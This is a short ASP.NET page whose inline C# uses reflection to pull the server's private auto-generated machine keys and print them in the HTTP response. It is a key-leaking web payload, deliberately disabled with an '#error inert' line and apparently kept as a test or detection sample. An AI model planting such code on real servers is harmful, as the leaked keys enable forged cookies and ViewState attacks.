<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
var fl = typeof(HttpRuntime).GetField("s_autogen" + "Keys", System.Reflection.BindingFlags.NonPublic | System.Reflection.BindingFlags.Static);
byte[] ak = (byte[])fl.GetValue(null);
Response.Write(BitConverter.ToString(ak).Replace("-", ""));
%>
